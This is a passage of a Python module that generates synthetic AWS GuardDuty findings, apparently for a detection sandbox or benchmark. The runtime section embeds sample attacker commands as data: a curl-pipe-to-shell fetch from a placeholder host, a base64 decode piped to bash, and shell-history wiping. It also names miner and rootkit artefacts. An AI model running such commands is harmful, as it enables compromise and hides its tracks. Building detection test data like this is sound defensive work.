"""Build realistic GuardDuty finding bodies (the S3 export form: bare camelCase objects).

Each finding type belongs to a family (:mod:`gdnb.sandbox.findings.catalog`) that decides its
``resource`` (``resourceType`` and the matching details), its ``service.action`` and the extra blocks
(``runtimeDetails``, ``ebsVolumeScanDetails``, ``malwareScanDetails``, ``detection``), following the
shapes of published findings and of botocore's ``Finding`` model. All randomness comes from the
``random.Random`` passed in, so the same seed builds the same finding.

:class:`Hints` pins the parts a caller wants (an instance, a domain, a principal, an API, a remote
address, a bucket): the seeding uses them to plant incidents whose ground truth it knows.
"""

from __future__ import annotations

import dataclasses
import datetime as dt
import random
from typing import Any

from gdnb.sandbox.findings import catalog as cat
from gdnb.sandbox.findings.texts import title_and_description
from gdnb.sandbox.findings.world import Bucket, Instance, Principal, RemoteIp, World, build_world, public_bucket_details

_EPOCH = dt.datetime(1970, 1, 1, tzinfo=dt.UTC)


def iso_ms(epoch_ms: int) -> str:
    """``2026-12-01T10:00:00.123Z`` for a time in epoch milliseconds (UTC)."""
    t = _EPOCH + dt.timedelta(milliseconds=epoch_ms)
    return f"{t:%Y-%m-%dT%H:%M:%S}.{epoch_ms % 1000:03d}Z"


def iso_s(epoch_ms: int) -> str:
    """``2026-12-01T10:00:00.000Z``: second precision, as GuardDuty writes ``eventFirstSeen``/``eventLastSeen``."""
    t = _EPOCH + dt.timedelta(milliseconds=epoch_ms)
    return f"{t:%Y-%m-%dT%H:%M:%S}.000Z"


def finding_id(rng: random.Random) -> str:
    """A finding id: 32 lower-case hex digits, as GuardDuty's."""
    return f"{rng.getrandbits(128):032x}"


@dataclasses.dataclass(frozen=True)
class Hints:
    """Parts of a finding the caller fixes instead of drawing them at random."""

    instance: Instance | None = None
    domain: str | None = None
    principal: Principal | None = None
    api: tuple[str, str] | None = None  # (api, serviceName)
    remote_ip: RemoteIp | None = None
    bucket: Bucket | None = None
    severity: float | None = None


@dataclasses.dataclass(frozen=True)
class Timing:
    """A finding's times, in epoch milliseconds."""

    created_ms: int
    updated_ms: int
    first_seen_ms: int
    last_seen_ms: int


_NO_HINTS = Hints()


class FindingFactory:
    """Builds findings for one detector (account and region).

    Parameters
    ----------
    seed
        Seed of the world (the instances, keys, buckets and actors the findings are about).
    account_id, region, detector_id
        Where the findings belong (``accountId``, ``region``, ``arn``, ``service.detectorId``).
    """

    def __init__(self, seed: int, account_id: str, region: str, detector_id: str) -> None:
        self.account_id = account_id
        self.region = region
        self.detector_id = detector_id
        self.world: World = build_world(seed, account_id, region)
        self._arn_prefix = f"arn:aws:guardduty:{region}:{account_id}:detector/{detector_id}/finding/"

    def build(self, ftype: cat.FindingType, rng: random.Random, fid: str, timing: Timing, *, count: int = 1,
              sample: bool = False, archived: bool = False, hints: Hints | None = None) -> dict[str, Any]:
        """One finding of type ``ftype``.

        Parameters
        ----------
        ftype
            The finding type.
        rng
            The source of every random choice (same state, same finding).
        fid
            The finding id.
        timing
            createdAt, updatedAt, eventFirstSeen and eventLastSeen.
        count
            ``service.count``: how many times the activity was seen.
        sample
            Mark it as a sample finding (``service.additionalInfo.sample = true``).
        archived
            ``service.archived``.
        hints
            Parts to use instead of random ones.
        """
        h = hints or _NO_HINTS
        severity = h.severity if h.severity is not None else pick_severity(ftype, rng)
        parts = _Parts(self.world, rng, h, ftype)
        _FAMILY_BUILDERS[ftype.family](parts)
        service: dict[str, Any] = {"serviceName": "guardduty", "detectorId": self.detector_id}
        if parts.action is not None:
            service["action"] = parts.action
        service["resourceRole"] = parts.role
        info = dict(parts.additional_info)
        if sample:
            info["sample"] = True
        service["additionalInfo"] = info
        if parts.evidence is not None:
            service["evidence"] = parts.evidence
        service.update(parts.service_extra)
        service["eventFirstSeen"] = iso_s(timing.first_seen_ms)
        service["eventLastSeen"] = iso_s(timing.last_seen_ms)
        service["archived"] = archived
        service["count"] = count
        title, description = title_and_description(ftype.name, parts.text)
        return {
            "schemaVersion": "2.0",
            "accountId": self.account_id,
            "region": self.region,
            "partition": "aws",
            "id": fid,
            "arn": self._arn_prefix + fid,
            "type": ftype.name,
            "resource": parts.resource,
            "service": service,
            "severity": severity,
            "createdAt": iso_ms(timing.created_ms),
            "updatedAt": iso_ms(timing.updated_ms),
            "title": title,
            "description": description,
        }


def pick_severity(ftype: cat.FindingType, rng: random.Random) -> float | int:
    """A severity in the type's band: mostly the band's usual value (2, 5, 8, 9), sometimes another in band."""
    bands = ftype.bands
    band = bands[0] if len(bands) == 1 or rng.random() < 0.75 else rng.choice(bands[1:])
    if rng.random() < 0.8:
        return {"Low": 2, "Medium": 5, "High": 8, "Critical": 9}[band]
    low, high = cat.SEVERITY_BANDS[band]
    value = round(rng.uniform(low, high), 1)
    return int(value) if value.is_integer() else value


# -- the parts of one finding, filled by a family builder ----------------------------------------------
class _Parts:
    __slots__ = ("action", "additional_info", "evidence", "ftype", "hints", "resource", "rng", "role",
                 "service_extra", "text", "world")

    def __init__(self, world: World, rng: random.Random, hints: Hints, ftype: cat.FindingType) -> None:
        self.world = world
        self.rng = rng
        self.hints = hints
        self.ftype = ftype
        self.resource: dict[str, Any] = {}
        self.action: dict[str, Any] | None = None
        self.role = "TARGET"
        self.additional_info: dict[str, Any] = {}
        self.evidence: dict[str, Any] | None = None
        self.service_extra: dict[str, Any] = {}
        self.text: dict[str, str] = {}

    # shared pieces
    def instance(self) -> Instance:
        return self.hints.instance or self.rng.choice(self.world.instances)

    def principal(self, kinds: tuple[str, ...] = ("IAMUser", "AssumedRole")) -> Principal:
        if self.hints.principal:
            return self.hints.principal
        pool = [p for p in self.world.principals if p.user_type in kinds]
        return self.rng.choice(pool)

    def remote(self) -> RemoteIp:
        return self.hints.remote_ip or self.rng.choice(self.world.remote_ips)

    def bucket(self) -> Bucket:
        return self.hints.bucket or self.rng.choice(self.world.buckets)

    def threat_evidence(self) -> None:
        name = self.ftype.name
        if "Custom" in name:
            source, threat = "CustomThreatList", "custom-blocklist"
        elif "Tor" in name:
            source, threat = "TorExitNodes", "Tor exit node"
        elif any(k in name for k in ("MaliciousIP", "C&C", "DropPoint", "Blackhole", "MaliciousDomain",
                                     "PhishingDomain", "DriveBy", "Bitcoin")):
            source, threat = self.rng.choice((("ProofPoint", "MaliciousIP"), ("CrowdStrike", "BotnetC2"),
                                              ("Amazon", "KnownMalicious")))
        else:
            return
        self.evidence = {"threatIntelligenceDetails": [{"threatListName": source, "threatNames": [threat]}]}
        self.additional_info["threatListName"] = source


def _instance_resource(p: _Parts, inst: Instance) -> None:
    p.resource = {"resourceType": "Instance", "instanceDetails": inst.details}
    p.text["iid"] = inst.instance_id
    p.text["resource"] = f"EC2 instance {inst.instance_id}"


def _port_name(port: int) -> str:
    return {22: "SSH", 25: "SMTP", 53: "DNS", 80: "HTTP", 443: "HTTPS", 853: "DNS over TLS", 3389: "RDP",
            5985: "WinRM", 8088: "EMR", 9001: "Tor", 3333: "Unknown", 6667: "IRC"}.get(port, "Unknown")


def _connection(p: _Parts, local_ip: str, *, direction: str, remote_port: int, local_port: int,
                protocol: str = "TCP") -> None:
    remote = p.remote()
    p.action = {"actionType": "NETWORK_CONNECTION", "networkConnectionAction": {
        "connectionDirection": direction,
        "localIpDetails": {"ipAddressV4": local_ip},
        "remoteIpDetails": remote.details,
        "remotePortDetails": {"port": remote_port, "portName": _port_name(remote_port)},
        "localPortDetails": {"port": local_port, "portName": _port_name(local_port)},
        "protocol": protocol,
        "blocked": False,
    }}
    p.role = "ACTOR" if direction == "OUTBOUND" else "TARGET"
    p.text["ip"] = remote.ip


def _network_shape(name: str, rng: random.Random) -> tuple[str, int, int, str]:
    """(direction, remote port, local port, protocol) of a network finding, from its type name."""
    eph = rng.randint(32768, 60999)
    if "SSHBruteForce" in name:
        return "INBOUND", eph, 22, "TCP"
    if "RDPBruteForce" in name:
        return "INBOUND", eph, 3389, "TCP"
    if "WinRMBruteForce" in name:
        return "OUTBOUND", 5985, eph, "TCP"
    if "TorRelay" in name:
        return "INBOUND", eph, 9001, "TCP"
    if "TorClient" in name or "TorIPCaller" in name:
        return "OUTBOUND", 9001, eph, "TCP"
    if "Spambot" in name:
        return "OUTBOUND", 25, eph, "TCP"
    if "BitcoinTool" in name:
        return "OUTBOUND", rng.choice((3333, 4444, 8333)), eph, "TCP"
    if "DenialOfService.Dns" in name or "UnusualDNSResolver" in name:
        return "OUTBOUND", 53, eph, "UDP"
    if "DenialOfService.Udp" in name:
        return "OUTBOUND", rng.choice((80, 123, 1900)), eph, "UDP"
    if "UnusualProtocol" in name:
        return "OUTBOUND", 0, 0, "Unknown"
    if "DoT" in name:
        return "OUTBOUND", 853, eph, "TCP"
    if "DoH" in name:
        return "OUTBOUND", 443, eph, "TCP"
    if "NetworkPortUnusual" in name:
        return "OUTBOUND", rng.choice((6667, 4444, 31337, 1337)), eph, "TCP"
    if "MaliciousIPCaller" in name:
        return rng.choice(("INBOUND", "OUTBOUND")), rng.choice((80, 443, 8080)), eph, "TCP"
    return "OUTBOUND", rng.choice((80, 443, 8080, 22)), eph, "TCP"


# -- families ----------------------------------------------------------------------------------------
def _ec2_network(p: _Parts) -> None:
    inst = p.instance()
    _instance_resource(p, inst)
    name = p.ftype.name
    if "PortProbe" in name:
        port = 8088 if "EMR" in name else p.rng.choice((22, 80, 443, 3389, 3306))
        probes = []
        for _ in range(p.rng.randint(1, 3)):
            remote = p.remote() if not probes else p.rng.choice(p.world.remote_ips)
            probes.append({"localPortDetails": {"port": port, "portName": _port_name(port)},
                           "localIpDetails": {"ipAddressV4": inst.private_ip},
                           "remoteIpDetails": remote.details})
        p.action = {"actionType": "PORT_PROBE", "portProbeAction": {"portProbeDetails": probes, "blocked": False}}
        p.text["ip"] = probes[0]["remoteIpDetails"]["ipAddressV4"]
        p.threat_evidence()
        return
    direction, rport, lport, proto = _network_shape(name, p.rng)
    _connection(p, inst.private_ip, direction=direction, remote_port=rport, local_port=lport, protocol=proto)
    p.threat_evidence()


def _domain(p: _Parts) -> str:
    if p.hints.domain:
        return p.hints.domain
    name = p.ftype.name
    rng = p.rng
    if "DGADomain" in name:
        label = "".join(rng.choices("abcdefghijklmnopqrstuvwxyz0123456789", k=rng.randint(12, 20)))
        return f"{label}.{rng.choice(('example', 'test'))}"
    if "DNSDataExfiltration" in name:
        return f"{rng.choice(('t', 'd', 'x'))}{rng.randint(10, 99)}.tunnel-{rng.randint(100, 999)}.example"
    if "MetadataDNSRebind" in name:
        return f"169-254-169-254.rebind-{rng.randint(1, 99)}.test"
    for key, kind in (("C&C", "c2"), ("Bitcoin", "bitcoin"), ("Phishing", "phishing"), ("DropPoint", "dropzone"),
                      ("Blackhole", "blackhole"), ("DriveBy", "driveby"), ("Suspicious", "suspicious"),
                      ("Abused", "abused")):
        if key in name:
            return rng.choice(p.world.domains[kind])
    return rng.choice(p.world.domains["malicious"])


def _dns_action(p: _Parts) -> None:
    domain = _domain(p)
    p.action = {"actionType": "DNS_REQUEST", "dnsRequestAction": {
        "domain": domain, "protocol": "UDP", "blocked": False, "domainWithSuffix": domain.split(".", 1)[-1]}}
    p.text["domain"] = domain
    if "DNSDataExfiltration" in p.ftype.name:
        p.additional_info["domain"] = domain
        p.role = "ACTOR"


def _ec2_dns(p: _Parts) -> None:
    _instance_resource(p, p.instance())
    _dns_action(p)
    p.threat_evidence()


_API_BY_PURPOSE: dict[str, tuple[tuple[str, str], ...]] = {
    "Recon": (("DescribeInstances", "ec2.amazonaws.com"), ("ListUsers", "iam.amazonaws.com"),
              ("GetCallerIdentity", "sts.amazonaws.com"), ("ListBuckets", "s3.amazonaws.com")),
    "Discovery": (("GetAccountAuthorizationDetails", "iam.amazonaws.com"), ("ListRoles", "iam.amazonaws.com"),
                  ("DescribeSecurityGroups", "ec2.amazonaws.com"), ("ListSecrets", "secretsmanager.amazonaws.com")),
    "Persistence": (("CreateAccessKey", "iam.amazonaws.com"), ("CreateUser", "iam.amazonaws.com"),
                    ("CreateLoginProfile", "iam.amazonaws.com"),
                    ("AuthorizeSecurityGroupIngress", "ec2.amazonaws.com")),
    "PrivilegeEscalation": (("AttachUserPolicy", "iam.amazonaws.com"), ("PutRolePolicy", "iam.amazonaws.com"),
                            ("UpdateAssumeRolePolicy", "iam.amazonaws.com")),
    "DefenseEvasion": (("StopLogging", "cloudtrail.amazonaws.com"), ("DeleteFlowLogs", "ec2.amazonaws.com"),
                       ("DeleteDetector", "guardduty.amazonaws.com"),
                       ("DeleteModelInvocationLoggingConfiguration", "bedrock.amazonaws.com")),
    "Stealth": (("StopLogging", "cloudtrail.amazonaws.com"), ("UpdateAccountPasswordPolicy", "iam.amazonaws.com"),
                ("PutBucketLogging", "s3.amazonaws.com"), ("DeleteTrail", "cloudtrail.amazonaws.com")),
    "Impact": (("TerminateInstances", "ec2.amazonaws.com"), ("RunInstances", "ec2.amazonaws.com"),
               ("DeleteObject", "s3.amazonaws.com"), ("PutBucketPolicy", "s3.amazonaws.com")),
    "Exfiltration": (("CreateSnapshot", "ec2.amazonaws.com"), ("ModifySnapshotAttribute", "ec2.amazonaws.com"),
                     ("GetObject", "s3.amazonaws.com")),
    "CredentialAccess": (("GetSecretValue", "secretsmanager.amazonaws.com"), ("GetPasswordData", "ec2.amazonaws.com"),
                         ("GetParameters", "ssm.amazonaws.com")),
    "InitialAccess": (("ConsoleLogin", "signin.amazonaws.com"), ("GetSessionToken", "sts.amazonaws.com"),
                      ("AssumeRole", "sts.amazonaws.com")),
    "UnauthorizedAccess": (("DescribeInstances", "ec2.amazonaws.com"), ("ListBuckets", "s3.amazonaws.com"),
                           ("GetCallerIdentity", "sts.amazonaws.com"), ("ListAccessKeys", "iam.amazonaws.com")),
    "Policy": (("ListBuckets", "s3.amazonaws.com"), ("DescribeRegions", "ec2.amazonaws.com"),
               ("GetAccountSummary", "iam.amazonaws.com")),
    "PenTest": (("DescribeInstances", "ec2.amazonaws.com"), ("ListBuckets", "s3.amazonaws.com"),
                ("GetCallerIdentity", "sts.amazonaws.com")),
    "ResourceConsumption": (("RunInstances", "ec2.amazonaws.com"),),
}
_S3_API_BY_PURPOSE: dict[str, tuple[str, ...]] = {
    "Discovery": ("ListObjects", "ListObjectsV2", "GetBucketAcl", "GetBucketPolicy"),
    "Exfiltration": ("GetObject", "ListObjects", "CopyObject"),
    "Impact": ("DeleteObject", "PutObject", "DeleteObjects"),
    "Policy": ("PutBucketPublicAccessBlock", "PutBucketPolicy", "PutBucketAcl", "DeletePublicAccessBlock"),
    "Stealth": ("PutBucketLogging",),
    "PenTest": ("ListObjects", "GetObject"),
    "UnauthorizedAccess": ("GetObject", "ListObjects", "PutObject"),
}
_USER_AGENTS = ("aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0 exe/x86_64.ubuntu.22",
                "Boto3/1.34.69 md/Botocore#1.34.69 ua/2.0 os/linux#6.5.0 md/arch#x86_64 lang/python#3.11.8",
                "aws-sdk-go-v2/1.25.2 os/linux lang/go#1.22.1", "S3Console/0.4, aws-internal/3")
_PENTEST_AGENTS = {"Kali": "aws-cli/2.15.30 Python/3.11.8 Linux/6.6.9-amd64 exe/x86_64.kali.2024",
                   "Parrot": "aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0-13parrot1-amd64 exe/x86_64.parrot.6",
                   "Pentoo": "aws-cli/2.15.30 Python/3.11.8 Linux/6.6.13-pentoo exe/x86_64.gentoo.2"}


def _user_agent(p: _Parts) -> str:
    for key, agent in _PENTEST_AGENTS.items():
        if key in p.ftype.name:
            return agent
    return p.rng.choice(_USER_AGENTS)


def _api_call(p: _Parts, api: tuple[str, str], principal: Principal, affected: dict[str, str]) -> None:
    remote = p.remote()
    call: dict[str, Any] = {"api": api[0], "serviceName": api[1], "callerType": "Remote IP",
                            "userAgent": _user_agent(p), "remoteIpDetails": remote.details,
                            "affectedResources": affected}
    if "InsideAWS" in p.ftype.name:
        call["callerType"] = "Remote account"
        call["remoteAccountDetails"] = {"accountId": f"{p.rng.randint(10**11, 10**12 - 1)}", "affiliated": False}
    elif p.rng.random() < 0.15:
        call["errorCode"] = "AccessDenied"
    p.action = {"actionType": "AWS_API_CALL", "awsApiCallAction": call}
    p.text.update(ip=remote.ip, api=api[0], user=principal.user_name)


def _iam_api(p: _Parts) -> None:
    name = p.ftype.name
    if "Root" in name:
        principal = p.principal(("Root",))
    elif "InstanceCredentialExfiltration" in name or "ResourceCredentialExfiltration" in name:
        principal = p.hints.principal or p.rng.choice([x for x in p.world.principals
                                                       if x.user_type == "AssumedRole" and "role" in x.user_name])
    else:
        principal = p.principal()
    p.resource = {"resourceType": "AccessKey", "accessKeyDetails": principal.details}
    p.text["resource"] = f"access key {principal.access_key_id} ({principal.user_type} {principal.user_name})"
    if "ConsoleLogin" in name:
        api = ("ConsoleLogin", "signin.amazonaws.com")
    elif "CloudTrailLoggingDisabled" in name:
        api = ("StopLogging", "cloudtrail.amazonaws.com")
    elif "PasswordPolicyChange" in name:
        api = ("UpdateAccountPasswordPolicy", "iam.amazonaws.com")
    elif "BedrockLoggingDisabled" in name:
        api = ("DeleteModelInvocationLoggingConfiguration", "bedrock.amazonaws.com")
    else:
        api = p.hints.api or p.rng.choice(_API_BY_PURPOSE.get(p.ftype.threat_purpose, _API_BY_PURPOSE["Recon"]))
    _api_call(p, api, principal, {})
    p.threat_evidence()
    if "InstanceCredentialExfiltration" in name:
        p.additional_info["recentCredentials"] = [{"accessKeyId": principal.access_key_id,
                                                   "principalId": principal.principal_id,
                                                   "ipAddressV4": p.text["ip"]}]


def _s3_api(p: _Parts) -> None:
    name = p.ftype.name
    bucket = p.bucket()
    principal = p.principal(("Root",) if "Root" in name else ("IAMUser", "AssumedRole"))
    details = public_bucket_details(bucket) if ("PublicAccess" in name or "AnonymousAccess" in name
                                                or "BlockPublicAccessDisabled" in name) else bucket.details
    p.resource = {"resourceType": "S3Bucket", "accessKeyDetails": principal.details, "s3BucketDetails": [details]}
    p.text.update(resource=f"S3 bucket {bucket.name}", bucket=bucket.name)
    if p.hints.api:
        api = p.hints.api
    else:
        apis = _S3_API_BY_PURPOSE.get(p.ftype.threat_purpose, ("GetObject", "ListObjects"))
        api = (p.rng.choice(apis), "s3.amazonaws.com")
    _api_call(p, api, principal, {"AWS::S3::Bucket": bucket.name})
    p.threat_evidence()


def _s3_malware(p: _Parts) -> None:
    bucket = p.bucket()
    key = f"uploads/{p.rng.choice(('invoice', 'report', 'setup', 'image'))}-{p.rng.randint(1000, 9999)}." \
          f"{p.rng.choice(('pdf', 'zip', 'exe', 'docx'))}"
    sha = f"{p.rng.getrandbits(256):064x}"
    obj = {"objectArn": f"arn:aws:s3:::{bucket.name}/{key}", "key": key, "eTag": f"{p.rng.getrandbits(128):032x}",
           "hash": sha, "versionId": f"{p.rng.getrandbits(64):016x}"}
    p.resource = {"resourceType": "S3Object", "s3BucketDetails": [{**bucket.details, "s3ObjectDetails": [obj]}]}
    p.text.update(resource=f"S3 object s3://{bucket.name}/{key}", bucket=bucket.name)
    p.service_extra["featureName"] = "S3MalwareProtection"
    p.service_extra["malwareScanDetails"] = {"threats": [{
        "name": p.rng.choice(("EICAR-Test-File (not a virus)", "Trojan.GenericKD.46542", "Win32.Emotet.A")),
        "hash": sha, "itemPaths": [{"nestedItemPath": key, "hash": sha}]}], "scanType": "GUARDDUTY_INITIATED"}


def _k8s_user(p: _Parts) -> dict[str, Any]:
    name = p.ftype.name
    if "Anonymous" in name:
        return {"username": "system:anonymous", "uid": "", "groups": ["system:unauthenticated"]}
    user = p.rng.choice(("kubernetes-admin", "dev-user", "system:serviceaccount:default:app",
                         f"arn:aws:sts::{p.world.account_id}:assumed-role/eks-node-role/i-{p.rng.getrandbits(68):017x}"))
    return {"username": user, "uid": f"aws-iam-authenticator:{p.rng.randint(10**11, 10**12 - 1)}:"
                                     f"AROA{p.rng.getrandbits(60):015X}", "groups": ["system:authenticated"]}


def _k8s_workload(p: _Parts) -> dict[str, Any]:
    rng = p.rng
    name = f"{rng.choice(('web', 'api', 'worker', 'miner', 'debug'))}-{rng.getrandbits(20):05x}"
    privileged = "Privileged" in p.ftype.name or "SensitiveMount" in p.ftype.name
    mounts = [{"name": "host-root", "mountPath": "/host"}] if "SensitiveMount" in p.ftype.name else []
    return {"name": name, "type": rng.choice(("pods", "deployments", "daemonsets")),
            "uid": f"{rng.getrandbits(32):08x}-{rng.getrandbits(16):04x}-{rng.getrandbits(16):04x}-"
                   f"{rng.getrandbits(16):04x}-{rng.getrandbits(48):012x}",
            "namespace": "kube-system" if "KubeSystem" in p.ftype.name else rng.choice(("default", "prod", "jobs")),
            "hostNetwork": False,
            "containers": [{"name": name.split("-")[0], "image": rng.choice(("nginx:1.25", "busybox:1.36",
                                                                               "alpine:3.19")),
                            "imagePrefix": "", "volumeMounts": mounts,
                            "securityContext": {"privileged": privileged, "allowPrivilegeEscalation": privileged}}],
            "volumes": [{"name": "host-root", "hostPath": {"path": "/"}}] if mounts else []}


def _eks_resource(p: _Parts, workload: bool) -> dict[str, Any]:
    cluster = p.rng.choice(p.world.eks_clusters)
    details: dict[str, Any] = {"kubernetesUserDetails": _k8s_user(p)}
    if workload:
        details["kubernetesWorkloadDetails"] = _k8s_workload(p)
    p.text["resource"] = f"EKS cluster {cluster['name']}"
    return {"resourceType": "EKSCluster", "eksClusterDetails": cluster, "kubernetesDetails": details}


def _eks_audit(p: _Parts) -> None:
    name = p.ftype.name
    workload = any(k in name for k in ("Workload", "Container", "ExecInPod", "ExecInKubeSystemPod"))
    p.resource = _eks_resource(p, workload)
    remote = p.remote()
    if "ExecIn" in name:
        verb, uri = "create", "/api/v1/namespaces/kube-system/pods/coredns/exec?command=sh"
    elif "Secrets" in name or p.ftype.threat_purpose == "CredentialAccess":
        verb, uri = p.rng.choice(("get", "list")), "/api/v1/namespaces/default/secrets"
    elif "RoleBinding" in name or "AdminAccess" in name or "AnonymousAccessGranted" in name:
        verb, uri = "create", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings"
    elif "RoleCreated" in name:
        verb, uri = "create", "/apis/rbac.authorization.k8s.io/v1/clusterroles"
    elif workload:
        verb, uri = "create", "/apis/apps/v1/namespaces/default/deployments"
    elif "Dashboard" in name:
        verb, uri = "get", "/api/v1/namespaces/kubernetes-dashboard/services/https:kubernetes-dashboard:/proxy/"
    else:
        verb, uri = p.rng.choice((("list", "/api/v1/pods"), ("get", "/api/v1/namespaces"),
                                  ("list", "/apis/apps/v1/deployments")))
    p.action = {"actionType": "KUBERNETES_API_CALL", "kubernetesApiCallAction": {
        "requestUri": uri, "verb": verb, "sourceIPs": [remote.ip],
        "userAgent": p.rng.choice(("kubectl/v1.29.1 (linux/amd64) kubernetes/bc401b9", "Go-http-client/1.1")),
        "remoteIpDetails": remote.details, "statusCode": 201 if verb == "create" else 200}}
    p.text["ip"] = remote.ip
    if "PermissionChecked" in name:
        p.action["kubernetesPermissionCheckedDetails"] = {"verb": "list", "resource": "secrets",
                                                          "namespace": "default", "allowed": False}
    p.threat_evidence()


def _rds_login(p: _Parts) -> None:
    db = p.rng.choice(p.world.rds_instances)
    user = p.rng.choice(("postgres", "admin", "app_user", "readonly", "root"))
    p.resource = {"resourceType": "RDSDBInstance", "rdsDbInstanceDetails": db,
                  "rdsDbUserDetails": {"user": user, "application": p.rng.choice(("psql", "DBeaver", "mysql", "")),
                                       "database": p.rng.choice(("postgres", "orders", "users")),
                                       "ssl": p.rng.choice(("TRUE", "FALSE")), "authMethod": "PASSWORD"}}
    remote = p.remote()
    failed = "Failed" in p.ftype.name or "BruteForce" in p.ftype.name
    p.action = {"actionType": "RDS_LOGIN_ATTEMPT", "rdsLoginAttemptAction": {
        "remoteIpDetails": remote.details,
        "LoginAttributes": [{"user": user, "application": "psql",
                             "failedLoginAttempts": p.rng.randint(5, 400) if failed else 0,
                             "successfulLoginAttempts": 0 if "FailedLogin" in p.ftype.name else p.rng.randint(1, 5)}]}}
    p.text.update(resource=f"RDS DB instance {db['dbInstanceIdentifier']}", ip=remote.ip, user=user)
    p.threat_evidence()


def _lambda_network(p: _Parts) -> None:
    fn = p.rng.choice(p.world.lambdas)
    p.resource = {"resourceType": "Lambda", "lambdaDetails": fn}
    p.text["resource"] = f"Lambda function {fn['functionName']}"
    _direction, rport, lport, proto = _network_shape(p.ftype.name, p.rng)
    _connection(p, f"10.0.{p.rng.randint(0, 255)}.{p.rng.randint(4, 254)}", direction="OUTBOUND",
                remote_port=rport, local_port=lport, protocol=proto)
    p.threat_evidence()


def _uuid(rng: random.Random) -> str:
    h = f"{rng.getrandbits(128):032x}"
    return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"


_RUNTIME_PROCESSES = {
    "CryptoMiner": ("xmrig", "/tmp/.x/xmrig"), "Bitcoin": ("xmrig", "/tmp/.x/xmrig"),
    "ReverseShell": ("bash", "/usr/bin/bash"), "SuspiciousTool": ("nmap", "/usr/bin/nmap"),
    "KernelModule": ("insmod", "/usr/sbin/insmod"), "ProcessInjection": ("injector", "/tmp/injector"),
    "Fileless": ("memfd:payload", "/memfd:payload (deleted)"), "DockerSocket": ("curl", "/usr/bin/curl"),
    "Runc": ("runc", "/usr/sbin/runc"), "ElevationToRoot": ("sudo", "/usr/bin/sudo"),
    "SensitiveFile": ("vi", "/usr/bin/vi"), "MaliciousFile": ("payload", "/tmp/payload"),
    "NewBinary": ("kworkerd", "/tmp/kworkerd"), "NewLibrary": ("python3", "/usr/bin/python3"),
}


def _runtime_details(p: _Parts) -> dict[str, Any]:
    rng = p.rng
    name = p.ftype.name
    proc_name, path = next((v for k, v in _RUNTIME_PROCESSES.items() if k in name),
                           (rng.choice(("sh", "python3", "curl", "wget")), "/usr/bin/sh"))
    start = 1.7e9 + rng.randint(0, 5 * 10**7) + rng.random()
    parent = _uuid(rng)
    process = {"name": proc_name, "executablePath": path, "executableSha256": f"{rng.getrandbits(256):064x}",
               "namespacePid": rng.randint(1, 500), "pwd": rng.choice(("/", "/tmp", "/root", "/app")),
               "pid": rng.randint(1000, 60000), "startTime": start, "uuid": _uuid(rng), "parentUuid": parent,
               "user": rng.choice(("root", "ubuntu", "app")), "userId": 0, "euid": 0,
               "lineage": [{"startTime": start - 30, "namespacePid": 1, "userId": 0, "name": "containerd-shim",
                            "pid": rng.randint(100, 999), "uuid": parent, "executablePath": "/usr/bin/containerd-shim",
                            "euid": 0, "parentUuid": _uuid(rng)}]}
    context: dict[str, Any] = {}
    if "KernelModule" in name:
        context.update(moduleName="rootkit_mod", moduleFilePath="/tmp/rootkit_mod.ko",
                       moduleSha256=f"{rng.getrandbits(256):064x}")
    elif "ProcessInjection" in name:
        context["targetProcess"] = {"name": "sshd", "pid": rng.randint(300, 900), "executablePath": "/usr/sbin/sshd"}
    elif "Fileless" in name:
        context["memoryRegions"] = ["heap", "anonymous"]
    elif "CGroupsReleaseAgent" in name:
        context["releaseAgentPath"] = "/sys/fs/cgroup/rdma/release_agent"
    elif "MountsHostDirectory" in name:
        context.update(mountSource="/", mountTarget="/host", fileSystemType="ext4", flags=["rw"])
    elif "DockerSocket" in name:
        context["socketPath"] = "/var/run/docker.sock"
    elif "Runc" in name:
        context["runcBinaryPath"] = "/usr/sbin/runc"
    elif "SensitiveFile" in name:
        context.update(filePath=rng.choice(("/etc/shadow", "/etc/sudoers", "/root/.ssh/authorized_keys")),
                       fileOperation="MODIFY", modifyingProcess={"name": proc_name, "pid": process["pid"]})
    elif "MaliciousFile" in name:
        context["threatFilePath"] = path
    elif "SuspiciousTool" in name:
        context.update(toolName="nmap", toolCategory="Network scanner")
    elif "NewLibrary" in name:
        context["libraryPath"] = "/tmp/libhook.so"
    elif "SuspiciousCommand" in name or "SuspiciousShell" in name:
        context["commandLineExample"] = rng.choice(("curl -s http://payload.example/x.sh | sh",
                                                    "base64 -d /tmp/a | bash", "history -c && rm ~/.bash_history"))
        if "Shell" in name:
            context["shellHistoryFilePath"] = "/root/.bash_history"
    elif "Tor" in name or "C&C" in name or "Blackhole" in name or "DropPoint" in name or "Bitcoin" in name:
        context.update(addressFamily="AF_INET", ianaProtocolNumber=6)
    return {"process": process, "context": context}


def _workload_resource(p: _Parts) -> None:
    """A runtime or EBS-malware finding's workload: an EC2 instance, an EKS or ECS workload, or a container."""
    rng = p.rng
    kind = rng.choices(("Instance", "EKSCluster", "ECSCluster", "Container"), weights=(4, 3, 2, 1))[0]
    inst = p.instance()
    image = rng.choice(("nginx:1.25", "python:3.11-slim", "node:20-alpine", "busybox:1.36"))
    container = {"containerRuntime": "containerd", "id": f"{rng.getrandbits(256):064x}", "name": image.split(":")[0],
                 "image": image, "imagePrefix": "", "volumeMounts": [],
                 "securityContext": {"privileged": "Privilege" in p.ftype.name, "allowPrivilegeEscalation": False}}
    if kind == "Instance":
        _instance_resource(p, inst)
    elif kind == "EKSCluster":
        p.resource = _eks_resource(p, workload=True)
        p.resource["kubernetesDetails"]["kubernetesWorkloadDetails"]["containers"] = [container]
        p.resource["instanceDetails"] = inst.details
    elif kind == "ECSCluster":
        cluster = rng.choice(p.world.ecs_clusters)
        started = 1.7e9 + rng.randint(0, 5 * 10**7)
        task = {"arn": f"{cluster['arn'].replace(':cluster/', ':task/')}/{rng.getrandbits(128):032x}",
                "definitionArn": f"arn:aws:ecs:{p.world.region}:{p.world.account_id}:task-definition/"
                                 f"{cluster['name']}-task:{rng.randint(1, 40)}",
                "version": str(rng.randint(1, 40)), "createdAt": started - 5, "startedAt": started,
                "startedBy": "ecs-svc/1234567890", "containers": [container],
                "launchType": rng.choice(("FARGATE", "EC2")), "group": f"service:{cluster['name']}"}
        p.resource = {"resourceType": "ECSCluster", "ecsClusterDetails": {**cluster, "taskDetails": task}}
        p.text["resource"] = f"ECS cluster {cluster['name']}"
    else:
